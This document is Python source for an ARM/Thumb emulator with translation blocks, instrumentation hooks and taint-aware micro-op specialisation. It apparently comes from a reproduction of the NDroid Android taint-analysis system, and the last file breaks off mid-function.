                self._fire_entry_hooks(target)
            if target == tb.taken_pc:
                successor = tb.succ_taken
                if successor is None:
                    link = (tb, True)
                tb = successor
            else:
                tb = None  # dynamic target (BX, LDR pc, ...): re-resolve
        return executed

    # -- run loop ---------------------------------------------------------------------

    def run(self, max_steps: int = 5_000_000,
            stop_at: int = EXIT_ADDRESS) -> int:
        """Run until control returns to ``stop_at``.

        Returns the number of steps executed.  Raises on runaway loops so
        a broken scenario fails fast instead of hanging the test suite
        (translated blocks execute whole, so up to one block length may
        run beyond ``max_steps`` before the overrun is detected).
        """
        self._stop_requested = False
        steps = 0
        cpu = self.cpu
        while cpu.regs[PC] != stop_at:
            if self._stop_requested:
                break
            if steps >= max_steps:
                raise EmulationError(f"exceeded {max_steps} steps",
                                     pc=cpu.pc,
                                     mode="thumb" if cpu.thumb else "arm")
            if self._per_step_instrumentation or not self.use_tb:
                self.step()
                steps += 1
            else:
                steps += self._run_translated(stop_at, max_steps - steps)
        return steps

    def stop(self) -> None:
        self._stop_requested = True

    # -- host dispatch -----------------------------------------------------------------

    def _dispatch_host(self, address: int, simulate_return: bool,
                       return_address: Optional[int] = None) -> None:
        registered = self._host_functions.get(address)
        if registered is None:
            raise EmulationError(f"no host function @ 0x{address:08x}",
                                 pc=address)
        self.host_call_count += 1
        self.fire_fault_point("host", address=address, name=registered.name)
        # Capture the return address NOW: the host body may run nested
        # emulation (e.g. the JNI bridge calling into native code), which
        # clobbers LR exactly as a real call would.
        if return_address is None:
            return_address = self.cpu.lr
        self._fire_entry_hooks(address, return_address=return_address)
        result = registered.function(HostContext(self))
        if result is not None:
            self.cpu.write_reg(0, result & 0xFFFF_FFFF)
        if simulate_return:
            self.cpu.thumb = bool(return_address & 1)
            self.cpu.pc = return_address & ~1
            self._notify_branch(address, self.cpu.pc)
            self._fire_exit_hooks(self.cpu.pc)

    def call(self, address: int, args: Tuple[int, ...] = (),
             max_steps: int = 5_000_000) -> int:
        """Call an emulated (or host) function with AAPCS arguments.

        Extra arguments beyond four are pushed on the stack.  Returns R0.
        Calls nest (host functions invoke native code and vice versa);
        each nesting level returns to its own sentinel address.
        """
        stack_args = list(args[4:])
        for index, value in enumerate(args[:4]):
            self.cpu.write_reg(index, value & 0xFFFF_FFFF)
        saved_sp = self.cpu.sp
        if stack_args:
            self.cpu.sp = self.cpu.sp - 4 * len(stack_args)
            self.memory.write_words(self.cpu.sp,
                                    [value & 0xFFFF_FFFF for value in stack_args])
        sentinel = EXIT_ADDRESS + 16 * self._call_depth
        self._call_depth += 1
        try:
            self.cpu.lr = sentinel
            self.cpu.thumb = bool(address & 1)
            self.cpu.pc = address & ~1
            self._notify_branch(sentinel, self.cpu.pc)
            if not self.is_host_address(self.cpu.pc):
                # Host dispatch fires entry hooks itself inside step().
                self._fire_entry_hooks(self.cpu.pc)
            self.run(max_steps=max_steps, stop_at=sentinel)
        finally:
            self._call_depth -= 1
        self.cpu.sp = saved_sp
        return self.cpu.regs[0]
