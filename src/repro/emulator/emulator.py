"""Core fetch/decode/execute loop with instrumentation surfaces."""

from __future__ import annotations

from typing import Any, Callable, Dict, List, Optional, Tuple

from repro.common.errors import DecodeError, EmulationError
from repro.common.events import EventLog
from repro.cpu.arm_decoder import decode_arm
from repro.cpu.executor import Executor
from repro.cpu.isa import Instruction
from repro.cpu.state import LR, PC, SP, CpuState
from repro.cpu.thumb_decoder import decode_thumb
from repro.memory.memory import Memory
from repro.memory.regions import MemoryMap

# Returning to this address stops the run loop; the call bridge sets LR to
# it before jumping into a native method (QEMU's equivalent is returning to
# the JNI trampoline).
EXIT_ADDRESS = 0xFFFF_0000

BranchListener = Callable[[int, int, "Emulator"], None]
Tracer = Callable[[Instruction, "Emulator"], None]
Hook = Callable[["Emulator"], None]
SyscallHandler = Callable[[int, "Emulator"], None]
# A fault injector observes named fault points ("step", "decode", "host",
# "hook") and may raise to simulate a failure there.  The resilience
# subsystem's FaultPlan implements this surface; ``None`` costs one branch
# per point.
FaultInjector = Callable[..., None]


class HostContext:
    """Argument accessor handed to host functions (AAPCS view).

    The first four arguments live in R0-R3; the rest are on the stack.
    ``returns`` sets R0 (and R1 for 64-bit results).
    """

    def __init__(self, emu: "Emulator") -> None:
        self.emu = emu
        self.cpu = emu.cpu
        self.memory = emu.memory

    def arg(self, index: int) -> int:
        if index < 4:
            return self.cpu.regs[index]
        return self.memory.read_u32(self.cpu.sp + 4 * (index - 4))

    def set_result(self, value: int, high: Optional[int] = None) -> None:
        self.cpu.write_reg(0, value)
        if high is not None:
            self.cpu.write_reg(1, high)

    def cstring_arg(self, index: int) -> str:
        return self.memory.read_cstring(self.arg(index)).decode(
            "utf-8", errors="replace")


# A host function receives a HostContext; returning an int sets R0.
HostFunction = Callable[[HostContext], Optional[int]]


class _RegisteredHost:
    __slots__ = ("name", "function")

    def __init__(self, name: str, function: HostFunction) -> None:
        self.name = name
        self.function = function


class Emulator:
    """An emulated ARM machine with analysis instrumentation."""

    def __init__(self, memory: Optional[Memory] = None,
                 event_log: Optional[EventLog] = None) -> None:
        self.memory = memory if memory is not None else Memory()
        self.cpu = CpuState()
        self.memory_map = MemoryMap()
        self.event_log = event_log if event_log is not None else EventLog()
        self.executor = Executor(self.cpu, self.memory,
                                 svc_handler=self._handle_svc)

        self._decode_cache: Dict[Tuple[int, bool], Instruction] = {}
        self._host_functions: Dict[int, _RegisteredHost] = {}
        self._entry_hooks: Dict[int, List[Hook]] = {}
        self._exit_hooks: Dict[int, List[Hook]] = {}
        self._pending_exits: List[Tuple[int, int, Hook]] = []
        self._branch_listeners: List[BranchListener] = []
        self._tracers: List[Tracer] = []
        self.syscall_handler: Optional[SyscallHandler] = None
        # Pluggable fault injection (resilience/faults.py); stays None in
        # production runs.
        self.fault_injector: Optional[FaultInjector] = None

        self.instruction_count = 0
        self.host_call_count = 0
        self.decode_count = 0
        self._running = False
        self._stop_requested = False
        # Nested call() invocations each get their own return sentinel so
        # an inner function's return never triggers an outer caller's
        # pending exit hooks (both would otherwise target EXIT_ADDRESS).
        self._call_depth = 0

    # -- code/data loading ----------------------------------------------------

    def load(self, address: int, data: bytes) -> None:
        self.memory.write_bytes(address, data)
        self.invalidate_cache()

    def invalidate_cache(self) -> None:
        self._decode_cache.clear()

    # -- host functions -------------------------------------------------------

    def register_host_function(self, address: int, name: str,
                               function: HostFunction) -> int:
        """Install a Python-implemented function at an emulated address."""
        if address in self._host_functions:
            raise EmulationError(
                f"host function already registered @ 0x{address:08x}")
        self._host_functions[address] = _RegisteredHost(name, function)
        return address

    def host_function_at(self, address: int) -> Optional[str]:
        registered = self._host_functions.get(address)
        return registered.name if registered else None

    def is_host_address(self, address: int) -> bool:
        return (address & ~1) in self._host_functions

    def call_host(self, address: int) -> None:
        """Invoke a host function as if emulated code branched to it.

        Used by host functions that internally call other hooked functions
        (e.g. ``CallVoidMethodA`` → ``dvmCallMethodA`` → ``dvmInterpret``),
        so the branch-event chain the multilevel hooks watch is preserved,
        and entry/exit hooks fire exactly as for an emulated call.
        """
        caller_pc = self.cpu.pc
        self._notify_branch(caller_pc, address)
        self._dispatch_host(address, simulate_return=False,
                            return_address=caller_pc + 4)
        self._notify_branch(address, caller_pc + 4)
        self._fire_exit_hooks(caller_pc + 4)

    # -- hooks -----------------------------------------------------------------

    def add_entry_hook(self, address: int, hook: Hook) -> None:
        self._entry_hooks.setdefault(address & ~1, []).append(hook)

    def add_exit_hook(self, address: int, hook: Hook) -> None:
        self._exit_hooks.setdefault(address & ~1, []).append(hook)

    def add_branch_listener(self, listener: BranchListener) -> None:
        self._branch_listeners.append(listener)

    def add_tracer(self, tracer: Tracer) -> None:
        self._tracers.append(tracer)

    def remove_tracer(self, tracer: Tracer) -> None:
        self._tracers.remove(tracer)

    def _notify_branch(self, i_from: int, i_to: int) -> None:
        for listener in self._branch_listeners:
            listener(i_from, i_to, self)

    def _fire_entry_hooks(self, address: int,
                          return_address: Optional[int] = None) -> None:
        hooks = self._entry_hooks.get(address & ~1)
        if hooks:
            for hook in hooks:
                hook(self)
        exit_hooks = self._exit_hooks.get(address & ~1)
        if exit_hooks:
            if return_address is None:
                return_address = self.cpu.lr
            return_address &= ~1
            for hook in exit_hooks:
                self._pending_exits.append((return_address, self.cpu.sp, hook))

    def _fire_exit_hooks(self, address: int) -> None:
        if not self._pending_exits:
            return
        address &= ~1
        # Fire every pending exit whose recorded return site we just reached
        # with the stack back at (or above) the call-time level.
        remaining: List[Tuple[int, int, Hook]] = []
        for return_address, sp_at_entry, hook in self._pending_exits:
            if return_address == address and self.cpu.sp >= sp_at_entry:
                hook(self)
            else:
                remaining.append((return_address, sp_at_entry, hook))
        self._pending_exits = remaining

    # -- syscalls ---------------------------------------------------------------

    def _handle_svc(self, imm: int, cpu: CpuState, memory: Memory) -> None:
        if self.syscall_handler is None:
            raise EmulationError(f"SVC #{imm} but no syscall handler installed")
        self.syscall_handler(imm, self)

    # -- fault points -------------------------------------------------------------

    def fire_fault_point(self, point: str, **context: Any) -> None:
        """Give the installed fault injector a chance to fail ``point``.

        The named points sit at the emulator's existing raise sites: a
        fault plan raising here is indistinguishable from the organic
        failure (undecodable word, wild pointer, broken hook).
        """
        if self.fault_injector is not None:
            self.fault_injector(point, self, **context)

    # -- execution ---------------------------------------------------------------

    def _decode(self, address: int, thumb: bool) -> Instruction:
        key = (address, thumb)
        cached = self._decode_cache.get(key)
        if cached is not None:
            return cached
        self.decode_count += 1
        self.fire_fault_point("decode", address=address, thumb=thumb)
        try:
            if thumb:
                halfword = self.memory.read_u16(address)
                next_halfword = self.memory.read_u16(address + 2)
                ir = decode_thumb(halfword, next_halfword)
            else:
                ir = decode_arm(self.memory.read_u32(address))
        except DecodeError as error:
            if error.pc is None:
                error.pc = address
            raise
        self._decode_cache[key] = ir
        return ir

    def step(self) -> None:
        """Execute a single instruction (or host function) at PC."""
        pc = self.cpu.pc
        self.fire_fault_point("step", pc=pc,
                              instruction_count=self.instruction_count)
        if self.is_host_address(pc):
            self._dispatch_host(pc & ~1, simulate_return=True)
            return
        ir = self._decode(pc, self.cpu.thumb)
        for tracer in self._tracers:
            tracer(ir, self)
        wrote_pc = self.executor.execute(ir)
        self.instruction_count += 1
        if wrote_pc:
            target = self.cpu.pc
            self._notify_branch(pc, target)
            self._fire_exit_hooks(target)
            if not self.is_host_address(target):
                # Host dispatch fires entry hooks itself on the next step.
                self._fire_entry_hooks(target)
        else:
            self.cpu.pc = pc + ir.width

    def _dispatch_host(self, address: int, simulate_return: bool,
                       return_address: Optional[int] = None) -> None:
        registered = self._host_functions.get(address)
        if registered is None:
            raise EmulationError(f"no host function @ 0x{address:08x}",
                                 pc=address)
        self.host_call_count += 1
        self.fire_fault_point("host", address=address, name=registered.name)
        # Capture the return address NOW: the host body may run nested
        # emulation (e.g. the JNI bridge calling into native code), which
        # clobbers LR exactly as a real call would.
        if return_address is None:
            return_address = self.cpu.lr
        self._fire_entry_hooks(address, return_address=return_address)
        result = registered.function(HostContext(self))
        if result is not None:
            self.cpu.write_reg(0, result & 0xFFFF_FFFF)
        if simulate_return:
            self.cpu.thumb = bool(return_address & 1)
            self.cpu.pc = return_address & ~1
            self._notify_branch(address, self.cpu.pc)
            self._fire_exit_hooks(self.cpu.pc)

    def call(self, address: int, args: Tuple[int, ...] = (),
             max_steps: int = 5_000_000) -> int:
        """Call an emulated (or host) function with AAPCS arguments.

        Extra arguments beyond four are pushed on the stack.  Returns R0.
        Calls nest (host functions invoke native code and vice versa);
        each nesting level returns to its own sentinel address.
        """
        stack_args = list(args[4:])
        for index, value in enumerate(args[:4]):
            self.cpu.write_reg(index, value & 0xFFFF_FFFF)
        saved_sp = self.cpu.sp
        if stack_args:
            self.cpu.sp = self.cpu.sp - 4 * len(stack_args)
            self.memory.write_words(self.cpu.sp,
                                    [value & 0xFFFF_FFFF for value in stack_args])
        sentinel = EXIT_ADDRESS + 16 * self._call_depth
        self._call_depth += 1
        try:
            self.cpu.lr = sentinel
            self.cpu.thumb = bool(address & 1)
            self.cpu.pc = address & ~1
            self._notify_branch(sentinel, self.cpu.pc)
            if not self.is_host_address(self.cpu.pc):
                # Host dispatch fires entry hooks itself inside step().
                self._fire_entry_hooks(self.cpu.pc)
            self.run(max_steps=max_steps, stop_at=sentinel)
        finally:
            self._call_depth -= 1
        self.cpu.sp = saved_sp
        return self.cpu.regs[0]

    def run(self, max_steps: int = 5_000_000,
            stop_at: int = EXIT_ADDRESS) -> int:
        """Run until control returns to ``stop_at``.

        Returns the number of steps executed.  Raises on runaway loops so a
        broken scenario fails fast instead of hanging the test suite.
        """
        self._stop_requested = False
        steps = 0
        while self.cpu.pc != stop_at:
            if self._stop_requested:
                break
            if steps >= max_steps:
                raise EmulationError(f"exceeded {max_steps} steps",
                                     pc=self.cpu.pc,
                                     mode="thumb" if self.cpu.thumb else "arm")
            self.step()
            steps += 1
        return steps

    def stop(self) -> None:
        self._stop_requested = True
