"""The machine emulator — this reproduction's QEMU.

:class:`Emulator` runs ARM/Thumb code from emulated memory through the
decoder/executor, maintains a translation (decode) cache, and exposes the
instrumentation surfaces NDroid plugs into:

* **host functions** — Python implementations registered at emulated
  addresses (libc, libdvm, JNI); calling one from emulated code traps into
  Python, exactly as QEMU helpers do.
* **entry/exit hooks** — analysis callbacks attached to function addresses
  at "translation time" (the paper's TCG instrumentation, Section V.G).
* **branch listeners** — every control transfer is reported as
  ``(i_from, i_to)``, the event the multilevel hooking conditions T1..T6
  are defined over (Fig. 5).
* **instruction tracers** — called with the decoded IR before each
  instruction executes (the paper's instruction tracer, Section V.C).
"""

from repro.emulator.emulator import EXIT_ADDRESS, Emulator, HostContext
from repro.emulator.tb import TranslationBlock, TranslationCache

__all__ = ["Emulator", "HostContext", "EXIT_ADDRESS",
           "TranslationBlock", "TranslationCache"]
