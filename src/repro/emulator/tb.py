"""Translation blocks: cached straight-line runs of translated code.

NDroid inherits QEMU's translation-block architecture: guest code is
decoded once into blocks that end at control transfers, instrumentation
is decided when the block is *translated* rather than re-checked on
every executed instruction, and blocks chain directly to their static
successors so a hot loop dispatches without touching the block cache.

Blocks are keyed by ``(pc, thumb)`` and indexed by the 4 KiB pages their
bytes occupy.  Invalidation is page-granular: a write into a page
holding translated code (self-modifying code), or a hook registration
covering it, drops every block on that page and severs all chain links
into the dropped blocks (chains are severed globally — registration and
self-modification are rare, dispatch is not).
"""

from __future__ import annotations

from typing import Dict, List, Optional, Set, Tuple

PAGE_SHIFT = 12


class TranslationBlock:
    """One translated straight-line run starting at ``(pc, thumb)``.

    ``ops`` are the body micro-ops (never write PC).  ``term_ir`` is the
    decoded terminator executed through the interpretive executor, or
    None when the block was cut short (max length / host-code boundary),
    in which case control falls through to ``fall_pc``.

    Blocks from third-party regions carry a second executable variant:
    ``taint_ops`` interleaves a pre-bound Table V taint micro-op before
    each execution micro-op (NDroid's translation-time instrumentation
    insertion).  The dispatch loop picks the variant per execution —
    ``ops`` (*clean*) while the taint engine's sticky ``maybe_tainted``
    flag is off, ``taint_ops`` (*tainted*) once it flips — so the
    clean→tainted transition costs no retranslation.  Both variants come
    from the same translation pass.  ``traced`` counts the block's
    in-scope instructions (terminator included) for tracer accounting;
    blocks outside third-party regions have ``taint_ops is ops``,
    ``term_taint_op is None`` and ``traced == 0``.
    """

    __slots__ = ("pc", "thumb", "ops", "taint_ops", "term_taint_op",
                 "traced", "term_ir", "term_pc", "fall_pc",
                 "taken_pc", "length", "pages", "valid", "specialised",
                 "succ_taken", "succ_fall")

    def __init__(self, pc: int, thumb: bool, ops: Tuple, term_ir,
                 term_pc: int, fall_pc: int, taken_pc: Optional[int],
                 length: int, pages: Tuple[int, ...],
                 specialised: int, taint_ops: Optional[Tuple] = None,
                 term_taint_op=None, traced: int = 0) -> None:
        self.pc = pc
        self.thumb = thumb
        self.ops = ops
        self.taint_ops = ops if taint_ops is None else taint_ops
        self.term_taint_op = term_taint_op
        self.traced = traced
        self.term_ir = term_ir
        self.term_pc = term_pc
        self.fall_pc = fall_pc
        # Static taken-target of a PC-relative terminator (chainable);
        # None for dynamic targets (BX, LDR pc, ...).
        self.taken_pc = taken_pc
        self.length = length
        self.pages = pages
        self.valid = True
        self.specialised = specialised
        # Direct chaining: resolved successor blocks (same thumb mode,
        # set lazily by the dispatch loop, severed on invalidation).
        self.succ_taken: Optional["TranslationBlock"] = None
        self.succ_fall: Optional["TranslationBlock"] = None

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        mode = "thumb" if self.thumb else "arm"
        return (f"<TB {mode}@{self.pc:08x} len={self.length} "
                f"spec={self.specialised} valid={self.valid}>")


class TranslationCache:
    """The ``(pc, thumb)`` → block map with a per-page reverse index."""

    def __init__(self) -> None:
        self._blocks: Dict[Tuple[int, bool], TranslationBlock] = {}
        self._by_page: Dict[int, List[TranslationBlock]] = {}
        self.translations = 0
        self.invalidations = 0
        # Lookup counters: the dispatch loop only consults the cache after
        # a chain miss, so these tally un-chained dispatches, not every
        # block executed.
        self.hits = 0
        self.misses = 0

    def __len__(self) -> int:
        return len(self._blocks)

    def get(self, key: Tuple[int, bool]) -> Optional[TranslationBlock]:
        tb = self._blocks.get(key)
        if tb is None:
            self.misses += 1
        else:
            self.hits += 1
        return tb

    def put(self, tb: TranslationBlock) -> None:
        self._blocks[(tb.pc, tb.thumb)] = tb
        for page in tb.pages:
            self._by_page.setdefault(page, []).append(tb)
        self.translations += 1

    def pages(self) -> Set[int]:
        """Every page currently holding translated code."""
        return set(self._by_page)

    def _sever_chains(self) -> None:
        for tb in self._blocks.values():
            tb.succ_taken = None
            tb.succ_fall = None

    def invalidate_page(self, page: int) -> int:
        """Drop every block overlapping ``page``; returns the count."""
        victims = self._by_page.pop(page, None)
        if not victims:
            return 0
        dropped = 0
        for tb in victims:
            if not tb.valid:
                continue
            tb.valid = False
            self._blocks.pop((tb.pc, tb.thumb), None)
            dropped += 1
            for other_page in tb.pages:
                if other_page != page:
                    siblings = self._by_page.get(other_page)
                    if siblings is not None:
                        siblings[:] = [b for b in siblings if b is not tb]
        # Any block anywhere may chain into a dropped block.
        self._sever_chains()
        self.invalidations += dropped
        return dropped

    def flush(self) -> None:
        for tb in self._blocks.values():
            tb.valid = False
        self.invalidations += len(self._blocks)
        self._blocks.clear()
        self._by_page.clear()

    def reset_counters(self) -> None:
        """Zero the per-job counters (warm-worker job boundary)."""
        self.translations = 0
        self.invalidations = 0
        self.hits = 0
        self.misses = 0
