"""Translation-time specialisation of decoded instructions.

This is the reproduction's analogue of QEMU's TCG front end: at block
*translation* time each decoded IR node is partially evaluated against
its constants (register indices, immediates, shift amounts, and — because
the block's PC is known — every PC-relative address) into a flat Python
closure.  Executing the block then costs one closure call per
instruction, with no decode, no dispatch, no per-instruction
instrumentation checks, and no condition re-tests for the AL case.

Anything not covered by a specialised builder falls back to a closure
around :meth:`Executor.execute`, which keeps semantics identical to the
single-step engine at the single-step engine's speed.  The specialised
builders must match the executor's semantics *exactly* (including its
shifter-carry conventions) — the differential tests in
``tests/emulator/test_translation_blocks.py`` enforce this.
"""

from __future__ import annotations

from typing import Callable, Optional, Tuple

from repro.cpu import isa
from repro.cpu.executor import Executor, condition_passed
from repro.cpu.isa import Cond, Op, ShiftType
from repro.cpu.state import PC, CpuState
from repro.memory.memory import Memory

M32 = 0xFFFF_FFFF
SIGN = 0x8000_0000

# A translated micro-op: no arguments, no return value, never writes PC.
MicroOp = Callable[[], None]


def ends_block(ir: isa.Instruction) -> bool:
    """True when ``ir`` may transfer control (so it must end its block)."""
    if isinstance(ir, (isa.Branch, isa.BranchExchange,
                       isa.SoftwareInterrupt, isa.Breakpoint)):
        return True
    if isinstance(ir, isa.DataProcessing):
        return ir.rd == PC and ir.op not in isa.COMPARE_OPS
    if isinstance(ir, isa.LoadStore):
        return (ir.load and ir.rd == PC) or (ir.writeback and ir.rn == PC)
    if isinstance(ir, isa.LoadStoreMultiple):
        return (ir.load and PC in ir.reglist) or ir.rn == PC
    if isinstance(ir, isa.Multiply):
        return ir.rd == PC
    if isinstance(ir, isa.MultiplyLong):
        return PC in (ir.rd_lo, ir.rd_hi)
    if isinstance(ir, isa.MoveWide):
        return ir.rd == PC
    if isinstance(ir, isa.CountLeadingZeros):
        return ir.rd == PC
    return False


def static_branch_target(ir: isa.Instruction, pc: int,
                         thumb: bool) -> Optional[int]:
    """The taken-target of a PC-relative branch, or None if dynamic."""
    if isinstance(ir, isa.Branch):
        pipeline = 4 if thumb else 8
        target = (pc + pipeline + ir.offset) & M32
        if ir.mnemonic == "blx" and thumb:
            target &= ~3
        return target
    return None


def interleave_taint_ops(ops: Tuple[MicroOp, ...],
                         taint_slots) -> Tuple[MicroOp, ...]:
    """Build a block's *tainted* variant: each instruction's pre-bound
    taint micro-op (slot may be None for Table V no-ops) runs immediately
    before its execution micro-op — the same tracer-before-execute order
    as the single-step engine.  Taint ops run unconditionally even when
    the execution op's condition fails, again matching single-step (the
    tracer fires before the condition is evaluated)."""
    out = []
    for op, taint_op in zip(ops, taint_slots):
        if taint_op is not None:
            out.append(taint_op)
        out.append(op)
    return tuple(out)


def build_micro_op(ir: isa.Instruction, pc: int, thumb: bool,
                   cpu: CpuState, memory: Memory,
                   executor: Executor) -> Tuple[MicroOp, bool]:
    """Translate one body instruction into ``(micro-op, specialised)``.

    ``ir`` must not be a block terminator (``ends_block(ir)`` is False),
    so the returned closure never writes the PC.  The flag reports
    whether the closure is a flat specialisation (vs. executor fallback).
    """
    op = _specialise(ir, pc, thumb, cpu, memory)
    if op is None:
        return _fallback(ir, pc, cpu, executor), False
    if ir.cond != Cond.AL:
        op = _conditional(op, ir.cond, cpu)
    return op, True


def _fallback(ir: isa.Instruction, pc: int, cpu: CpuState,
              executor: Executor) -> MicroOp:
    regs = cpu.regs
    execute = executor.execute

    def op() -> None:
        regs[PC] = pc
        execute(ir)
    return op


def _conditional(inner: MicroOp, cond: Cond, cpu: CpuState) -> MicroOp:
    def op() -> None:
        if condition_passed(cpu, cond):
            inner()
    return op


def _specialise(ir: isa.Instruction, pc: int, thumb: bool,
                cpu: CpuState, memory: Memory) -> Optional[MicroOp]:
    if isinstance(ir, isa.DataProcessing):
        return _specialise_data_processing(ir, pc, thumb, cpu)
    if isinstance(ir, isa.LoadStore):
        return _specialise_load_store(ir, pc, thumb, cpu, memory)
    if isinstance(ir, isa.LoadStoreMultiple):
        return _specialise_load_store_multiple(ir, cpu, memory)
    if isinstance(ir, isa.MoveWide):
        return _specialise_move_wide(ir, cpu)
    if isinstance(ir, isa.Multiply):
        return _specialise_multiply(ir, cpu)
    if isinstance(ir, isa.CountLeadingZeros):
        return _specialise_clz(ir, cpu)
    if isinstance(ir, isa.Nop):
        return _nop
    return None


def _nop() -> None:
    return None


# -- operand2 ---------------------------------------------------------------

def _pipelined_pc(pc: int, thumb: bool) -> int:
    return (pc + (4 if thumb else 8)) & M32


def _operand2_getter(o2: isa.Operand2, pc: int, thumb: bool,
                     cpu: CpuState):
    """Returns (const_value, getter): exactly one is non-None.

    Only forms whose value is independent of the flags are specialised
    (RRX and register-specified shifts fall back), so getters stay pure
    reads of the register file.
    """
    regs = cpu.regs
    if o2.is_immediate:
        return o2.imm & M32, None
    if o2.shift_reg is not None:
        return None, None  # register-specified shift: dynamic amount
    rm = o2.rm
    if rm == PC:
        base_const = _pipelined_pc(pc, thumb)
        if o2.shift_type == ShiftType.LSL and o2.shift_imm == 0:
            return base_const, None
        return None, None  # shifted-PC operand: rare, fall back
    st, n = o2.shift_type, o2.shift_imm
    if st == ShiftType.LSL:
        if n == 0:
            return None, lambda: regs[rm]
        return None, lambda: (regs[rm] << n) & M32
    if st == ShiftType.LSR:
        if n == 0:  # encodes LSR #32
            return 0, None
        return None, lambda: regs[rm] >> n
    if st == ShiftType.ASR:
        if n == 0:  # encodes ASR #32
            return None, lambda: M32 if regs[rm] & SIGN else 0
        return None, lambda: (((regs[rm] ^ SIGN) - SIGN) >> n) & M32
    # ROR #n; amount 0 encodes RRX which needs the carry flag.
    if n == 0:
        return None, None
    return None, lambda: ((regs[rm] >> n) | (regs[rm] << (32 - n))) & M32


# -- data processing ---------------------------------------------------------

def _specialise_data_processing(ir: isa.DataProcessing, pc: int,
                                thumb: bool,
                                cpu: CpuState) -> Optional[MicroOp]:
    const2, get2 = _operand2_getter(ir.operand2, pc, thumb, cpu)
    if const2 is None and get2 is None:
        return None
    regs = cpu.regs
    rd, rn = ir.rd, ir.rn
    op = ir.op

    if ir.set_flags:
        return _specialise_flag_setting(ir, pc, thumb, cpu, const2, get2)

    if op == Op.MOV:
        if const2 is not None:
            def mov_imm() -> None:
                regs[rd] = const2
            return mov_imm

        def mov_reg() -> None:
            regs[rd] = get2()
        return mov_reg
    if op == Op.MVN:
        if const2 is not None:
            inverted = ~const2 & M32

            def mvn_imm() -> None:
                regs[rd] = inverted
            return mvn_imm

        def mvn_reg() -> None:
            regs[rd] = ~get2() & M32
        return mvn_reg
    if op in (Op.ADC, Op.SBC, Op.RSC):
        return None  # carry-dependent: fall back
    if rn == PC:
        rn_const = _pipelined_pc(pc, thumb)
        if op == Op.ADD and const2 is not None:  # ADR
            total = (rn_const + const2) & M32

            def adr() -> None:
                regs[rd] = total
            return adr
        get_n = lambda: rn_const  # noqa: E731 - tiny constant getter
    else:
        get_n = None  # marker: read regs[rn] inline

    # Flat fast paths for the common (reg op imm) / (reg op reg) shapes.
    if get_n is None:
        if const2 is not None:
            imm = const2
            if op == Op.ADD:
                def add_ri() -> None:
                    regs[rd] = (regs[rn] + imm) & M32
                return add_ri
            if op == Op.SUB:
                def sub_ri() -> None:
                    regs[rd] = (regs[rn] - imm) & M32
                return sub_ri
            if op == Op.AND:
                def and_ri() -> None:
                    regs[rd] = regs[rn] & imm
                return and_ri
            if op == Op.ORR:
                def orr_ri() -> None:
                    regs[rd] = regs[rn] | imm
                return orr_ri
            if op == Op.EOR:
                def eor_ri() -> None:
                    regs[rd] = regs[rn] ^ imm
                return eor_ri
            if op == Op.BIC:
                mask = ~imm & M32

                def bic_ri() -> None:
                    regs[rd] = regs[rn] & mask
                return bic_ri
            if op == Op.RSB:
                def rsb_ri() -> None:
                    regs[rd] = (imm - regs[rn]) & M32
                return rsb_ri
            return None
        if op == Op.ADD:
            def add_rr() -> None:
                regs[rd] = (regs[rn] + get2()) & M32
            return add_rr
        if op == Op.SUB:
            def sub_rr() -> None:
                regs[rd] = (regs[rn] - get2()) & M32
            return sub_rr
        if op == Op.AND:
            def and_rr() -> None:
                regs[rd] = regs[rn] & get2()
            return and_rr
        if op == Op.ORR:
            def orr_rr() -> None:
                regs[rd] = regs[rn] | get2()
            return orr_rr
        if op == Op.EOR:
            def eor_rr() -> None:
                regs[rd] = regs[rn] ^ get2()
            return eor_rr
        if op == Op.BIC:
            def bic_rr() -> None:
                regs[rd] = regs[rn] & ~get2() & M32
            return bic_rr
        if op == Op.RSB:
            def rsb_rr() -> None:
                regs[rd] = (get2() - regs[rn]) & M32
            return rsb_rr
        return None

    # rn is the PC constant with a non-immediate operand2 (rare).
    value2 = (lambda: const2) if const2 is not None else get2
    if op == Op.ADD:
        def add_pc() -> None:
            regs[rd] = (get_n() + value2()) & M32
        return add_pc
    if op == Op.SUB:
        def sub_pc() -> None:
            regs[rd] = (get_n() - value2()) & M32
        return sub_pc
    return None


def _specialise_flag_setting(ir: isa.DataProcessing, pc: int, thumb: bool,
                             cpu: CpuState, const2,
                             get2) -> Optional[MicroOp]:
    """CMP/CMN/TST and SUBS/ADDS/MOVS — the flag writers loops live on.

    Matches the executor's conventions: logical S-ops leave C untouched
    when the shifter produced no carry (immediates and LSL #0), so only
    those shifter forms are specialised here.
    """
    regs = cpu.regs
    rd, rn, op = ir.rd, ir.rn, ir.op
    if rn == PC or rd == PC:
        return None

    plain_shifter = ir.operand2.is_immediate or (
        ir.operand2.rm is not None
        and ir.operand2.shift_reg is None
        and ir.operand2.shift_type == ShiftType.LSL
        and ir.operand2.shift_imm == 0)

    if op in (Op.CMP, Op.SUB, Op.ADD, Op.CMN):
        subtract = op in (Op.CMP, Op.SUB)
        writes = op in (Op.SUB, Op.ADD)
        if const2 is not None:
            imm = const2

            def arith_imm() -> None:
                a = regs[rn]
                total = a - imm if subtract else a + imm
                result = total & M32
                cpu.flag_n = bool(result & SIGN)
                cpu.flag_z = result == 0
                if subtract:
                    cpu.flag_c = total >= 0
                    cpu.flag_v = bool((a ^ imm) & (a ^ result) & SIGN)
                else:
                    cpu.flag_c = total > M32
                    cpu.flag_v = bool((a ^ result) & (imm ^ result) & SIGN)
                if writes:
                    regs[rd] = result
            return arith_imm

        def arith_reg() -> None:
            a = regs[rn]
            b = get2()
            total = a - b if subtract else a + b
            result = total & M32
            cpu.flag_n = bool(result & SIGN)
            cpu.flag_z = result == 0
            if subtract:
                cpu.flag_c = total >= 0
                cpu.flag_v = bool((a ^ b) & (a ^ result) & SIGN)
            else:
                cpu.flag_c = total > M32
                cpu.flag_v = bool((a ^ result) & (b ^ result) & SIGN)
            if writes:
                regs[rd] = result
        return arith_reg

    if op in (Op.TST, Op.TEQ, Op.MOV) and plain_shifter:
        # Shifter carry is "unchanged" for these forms: N/Z only.
        if op == Op.MOV:
            if const2 is not None:
                imm = const2
                neg = bool(imm & SIGN)
                zero = imm == 0

                def movs_imm() -> None:
                    regs[rd] = imm
                    cpu.flag_n = neg
                    cpu.flag_z = zero
                return movs_imm

            def movs_reg() -> None:
                value = get2()
                regs[rd] = value
                cpu.flag_n = bool(value & SIGN)
                cpu.flag_z = value == 0
            return movs_reg
        exclusive = op == Op.TEQ
        if const2 is not None:
            imm = const2

            def test_imm() -> None:
                result = (regs[rn] ^ imm) if exclusive else (regs[rn] & imm)
